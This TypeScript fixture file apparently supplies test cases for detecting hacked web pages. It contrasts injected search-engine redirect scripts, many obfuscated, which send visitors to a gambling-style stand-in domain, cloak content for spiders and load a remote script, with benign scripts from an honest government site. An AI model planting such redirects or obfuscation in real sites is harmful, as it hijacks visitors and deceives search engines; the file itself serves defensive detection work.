/** Scripts that send visitors away, and scripts of honest pages. */
import type { Put } from './frame.ts';

const script = (source: string): Put => ({ head: `<script>${source}</script>` });
const base64 = (text: string) => Buffer.from(text).toString('base64');
const codes = (text: string) => [...text].map((one) => one.charCodeAt(0)).join(',');

export const REDIRECTS: readonly Put[] = [
  script('if(/baidu|sogou|so\\.com/i.test(document.referrer)){location.href="http://www.yl66.example/"}'),
  script(
    'var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("sm.cn")>0){self.location="https://yl66.example"}',
  ),
  script('if(document.referrer.match(/google|bing/)){top.location.replace("//go.yl66.example/?f=1")}'),
  script('if(/Android|iPhone|iPad/i.test(navigator.userAgent)){window.location.href="http://m.yl66.example/app"}'),
  script(
    'if(/Baiduspider|360Spider|Sogou web spider/i.test(navigator.userAgent)){document.title="凯发";document.write("<h1>凯发</h1>")}',
  ),
  script(`eval(atob("${base64('if(document.referrer.indexOf("baidu")>-1){location.href="http://yl66.example/"}')}"))`),
  script(`eval(unescape("${escape('if(/baidu|so.com/.test(document.referrer))location="http://yl66.example/"')}"))`),
  script(
    `eval(String.fromCharCode(${codes('if(document.referrer.indexOf("sogou")>0)window.location="http://yl66.example"')}))`,
  ),
  script(
    `new Function(atob('${base64('if(document.referrer.match(/baidu/))location.replace("http://yl66.example/")')}'))()`,
  ),
  script(
    'var l=["loc","ation"].join(""),r=document["refer"+"rer"];if(r.indexOf("baidu")>-1)window[l]="http://yl66.example/"',
  ),
  script(
    'var a="http";var b="://yl66.";var c="example/";if(document.referrer.indexOf("baidu")>=0){window["location"]["href"]=a+b+c}',
  ),
  script(
    'var _0x1=["referrer","baidu","location","href","http://yl66.example/","indexOf"];if(document[_0x1[0]][_0x1[5]](_0x1[1])>0)window[_0x1[2]][_0x1[3]]=_0x1[4]',
  ),
  script(
    'if(document.referrer.indexOf("baidu")>0)document.write("<script src=\'http://js.yl66.example/j.js\'><\\/script>")',
  ),
  script(
    'var u=navigator.userAgent.toLowerCase();if(u.indexOf("baiduspider")<0&&document.referrer.indexOf("baidu")>0){var f=document.createElement("iframe");f.src="http://yl66.example/";document.body.appendChild(f)}',
  ),
  script('if(/baidu|sogou/.test(document.referrer))setTimeout("location.href=\'http://yl66.example/\'",500)'),
  script(
    'var d=document,k=/baidu|google|sogou|bing/;if(k.test(d.referrer)){d.location.assign("http://yl66.example/")}',
  ),
  script('if(screen.width<800&&/mobile/i.test(navigator.userAgent)){window.open("http://m.yl66.example/","_self")}'),
  script(
    "if(navigator.userAgent.match(/(iPhone|iPod|Android|ios)/i)){document.write(\"<meta http-equiv='refresh' content='0;url=http://m.yl66.example/'>\")}",
  ),
  { head: '<meta http-equiv="refresh" content="0;url=http://www.yl66.example/">' },
  { head: '<meta http-equiv="Refresh" content="3; URL=\'//yl66.example/index.html\'">' },
  {
    body: '<img src="x" alt="清河" onerror="if(/baidu/.test(document.referrer))location.href=\'http://yl66.example/\'">',
  },
  { attributes: "onload=\"if(document.referrer.indexOf('baidu')>0)top.location='http://yl66.example/'\"" },
  script(
    `var p='${[...'http://yl66.example/'].reverse().join('')}';if(/baidu|sogou/.test(document.referrer))location.href=p.split('').reverse().join('')`,
  ),
  script(
    'document.addEventListener("click",function(){if(/baidu/.test(document.referrer)){location.href="http://yl66.example/"}})',
  ),
];

export const SCRIPTS: readonly Put[] = [
  script('if(/Android|iPhone/i.test(navigator.userAgent)){location.href="/m/index.html"}'),
  script('if(/Mobile/.test(navigator.userAgent))location.replace("http://m.qinghe.gov.cn/")'),
  script('if(/iPhone|Android/i.test(navigator.userAgent)){window.location.href=location.href.replace("www.","m.")}'),
  script(
    'var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?1a";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s)})()',
  ),
  script('function back(){if(document.referrer){location.href=document.referrer}else{location.href="/"}}'),
  script('if(navigator.userAgent.indexOf("MSIE 8")>0){location.href="/update-browser.html"}'),
  script(
    'function goSearch(){window.open("https://www.baidu.com/s?wd=site:qinghe.gov.cn "+document.getElementById("q").value)}',
  ),
  script('var from=/baidu|sogou/.test(document.referrer)?"search":"direct";new Image().src="/stat.gif?from="+from'),
  script('if(/MicroMessenger/i.test(navigator.userAgent)){document.documentElement.className+=" wechat"}'),
  script('if(window.top!==window.self){window.top.location=window.self.location}'),
  script(`var menu=JSON.parse(atob("${base64('{"name":"menu"}')}"))`),
  script('eval("("+document.getElementById("data").value+")")'),
  script('document.write(\'<script src="/js/jquery.js"><\\/script>\')'),
  script('document.write(unescape("%3Cspan id=\'jiathis\'%3E分享%3C/span%3E"))'),
  script('setTimeout(function(){location.reload()},600000)'),
  { head: '<meta http-equiv="refresh" content="0;url=/index.html">' },
  { head: '<meta http-equiv="refresh" content="1800">' },
  { head: '<meta http-equiv="refresh" content="0; url=http://qinghe.gov.cn/new/">' },
  { attributes: 'onload="init()"' },
  { body: '<a href="http://www.bus.example/" onclick="return confirm(\'即将离开本站\')">公交公司</a>' },
  { body: '<img src="/img/a.jpg" alt="秋粮入库" onerror="this.src=\'/img/none.png\'">' },
];
